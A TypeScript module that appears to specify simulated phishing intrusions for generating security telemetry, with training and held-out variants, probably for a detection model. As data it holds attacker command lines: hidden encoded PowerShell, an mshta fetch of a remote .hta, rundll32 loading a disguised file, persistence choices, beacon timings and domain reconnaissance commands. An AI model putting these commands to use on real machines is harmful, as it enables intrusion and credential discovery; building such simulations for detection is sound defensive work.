import { commandPrompt, excel, explorer, powershell, system, word } from "../programs-plan.ts";
import type { Program } from "../records/sysmon.ts";

/** How a machine is taken by mail and kept: what one intruder does otherwise than another. */
export interface PhishingManner {
  /** Of the story. */
  readonly name: string;
  /** Of the document. */
  readonly ending: string;
  readonly opener: Program;
  readonly openerSwitch: string;
  /** What the document starts, and with which command line. */
  readonly interpreter: Program;
  command(encoded: string, domain: string): string;
  readonly staysBy: "run key" | "task" | "start-up folder";
  readonly port: 443 | 80;
  readonly periodSeconds: readonly [least: number, most: number];
  /** Share of the period; up to 0.1 comes on top. */
  readonly leastJitter: number;
  readonly minutes: readonly [least: number, most: number];
  readonly askedBytes: number;
  readonly answeredBytes: number;
  /** What the intruder has the machine say. */
  readonly asks: readonly string[];
  readonly askGapMs: number;
}

/** What a demonstration shows: a macro, a hidden shell, a call each minute. */
export const livePhishing: PhishingManner = {
  name: "phishing",
  ending: "docm",
  opener: word,
  openerSwitch: "/n",
  interpreter: powershell,
  command: (encoded) => `powershell.exe -NoP -NonI -W Hidden -EncodedCommand ${encoded}`,
  staysBy: "run key",
  port: 443,
  periodSeconds: [40, 75],
  leastJitter: 0.05,
  minutes: [60, 120],
  askedBytes: 614,
  answeredBytes: 1_180,
  asks: [
    "whoami.exe /all",
    'net.exe group "Domain Admins" /domain',
    "nltest.exe /dclist:HARBOUR",
    "net.exe view \\\\FILE-01 /all",
    "quser.exe",
  ],
  askGapMs: 14_000,
};

const scriptHost = system("wscript.exe", "Microsoft Windows Based Script Host");

export const taughtPhishing: readonly PhishingManner[] = [
  livePhishing,
  {
    ...livePhishing,
    name: "phishing-by-sheet",
    ending: "xlsm",
    opener: excel,
    openerSwitch: "/dde",
    interpreter: commandPrompt,
    command: (encoded) => `cmd.exe /c start /min powershell -w 1 -e ${encoded}`,
    staysBy: "task",
    periodSeconds: [110, 200],
    leastJitter: 0.15,
    askedBytes: 380,
    answeredBytes: 460,
    asks: ["ipconfig.exe /all", "tasklist.exe /v", "arp.exe -a", "systeminfo.exe"],
    askGapMs: 40_000,
  },
  {
    ...livePhishing,
    name: "phishing-by-script",
    interpreter: scriptHost,
    command: (encoded) => `wscript.exe //B //E:jscript %TEMP%\\${encoded.slice(0, 9)}.tmp`,
    staysBy: "start-up folder",
    periodSeconds: [18, 30],
    leastJitter: 0.02,
    minutes: [40, 70],
    askedBytes: 1_900,
    answeredBytes: 320,
    asks: ["net.exe user /domain", "net.exe localgroup administrators", "hostname.exe"],
    askGapMs: 8_000,
  },
];

/** Never taught: no document program at all, a beacon every few minutes with much jitter, and one over plain HTTP. */
export const heldOutPhishing: readonly PhishingManner[] = [
  {
    ...livePhishing,
    name: "phishing-by-shortcut",
    ending: "lnk",
    opener: { image: explorer, description: "Windows Explorer", company: "Microsoft Corporation" },
    openerSwitch: "/select,",
    interpreter: system("mshta.exe", "Microsoft HTML Application host"),
    command: (_, domain) => `mshta.exe https://${domain}/a.hta`,
    staysBy: "task",
    periodSeconds: [240, 420],
    leastJitter: 0.3,
    minutes: [120, 180],
    askedBytes: 900,
    answeredBytes: 700,
    asks: ["whoami.exe /groups", "nslookup.exe -type=any harbour.example", "netstat.exe -ano"],
    askGapMs: 90_000,
  },
  {
    ...livePhishing,
    name: "phishing-by-library",
    ending: "xlsb",
    opener: excel,
    openerSwitch: "/dde",
    interpreter: system("rundll32.exe", "Windows host process"),
    command: () => "rundll32.exe C:\\ProgramData\\cache\\ms.dat,Start",
    staysBy: "start-up folder",
    port: 80,
    periodSeconds: [80, 100],
    leastJitter: 0.2,
    askedBytes: 240,
    answeredBytes: 5_200,
    asks: ["net.exe share", "route.exe print", "qwinsta.exe", "klist.exe"],
    askGapMs: 25_000,
  },
];
